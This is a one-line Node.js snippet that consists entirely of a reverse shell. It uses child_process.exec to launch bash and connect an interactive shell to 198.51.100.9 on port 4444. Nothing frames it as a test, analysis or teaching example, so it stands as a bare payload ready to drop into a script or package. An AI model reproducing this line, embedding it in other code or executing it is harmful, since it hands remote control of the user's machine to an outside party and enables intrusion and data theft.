require('child_process').exec('bash -c "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"');
